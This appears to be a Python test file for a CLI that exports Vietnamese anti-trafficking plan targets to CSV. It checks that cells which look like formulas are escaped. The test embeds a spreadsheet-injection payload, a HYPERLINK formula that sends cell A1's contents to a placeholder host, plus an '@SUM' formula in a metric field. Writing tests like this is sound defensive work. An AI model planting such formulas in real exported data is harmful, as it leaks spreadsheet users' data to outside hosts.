"""`kehoach compare ... --csv` never writes a cell a spreadsheet would run (issue 12, row 12)."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from composed_plans import Plan, national_193
from pipeline import store

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kế hoạch")'


def test_compare_targets_csv_writes_formula_like_cells_as_text(tmp_db):
    db = store.connect(tmp_db)
    p = Plan(None, "Hà Giang", "2021-03-11", "Phòng, chống mua bán người năm 2021", path=EVIL)
    national_193(p)
    p.target(80, "%", ">", "@SUM(1+1) tố giác được giải quyết", "Tỷ lệ tố giác được giải quyết đạt trên 80%.")
    p.write(db)
    db.close()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    out = subprocess.run([sys.executable, "-m", "pipeline.cli", "compare", "targets", "--db", str(tmp_db), "--csv"],
                         capture_output=True, text=True, cwd=ROOT, env=env, check=True).stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows, out
    cells = [c for r in rows for c in r.values() if c]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert any(r["plan"] == "'" + EVIL for r in rows)
    assert any(r["metric"].startswith("'@SUM") for r in rows)
